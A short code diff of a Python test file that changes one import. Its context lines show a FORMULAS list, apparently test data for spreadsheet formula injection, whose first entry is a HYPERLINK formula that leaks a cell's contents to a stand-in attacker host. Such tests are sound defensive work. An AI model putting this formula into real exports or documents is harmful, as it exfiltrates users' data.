@@ -18,7 +18,7 @@ from filters.classify import Classifier
 from sources.model.config import Config
 from sources.x.twitter_v2 import parse_response
 from tests import builders
-from tests.test_ambassador_report import build_programme, profiles_by_handle
+from tests.store_helpers import build_programme, profiles_by_handle
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
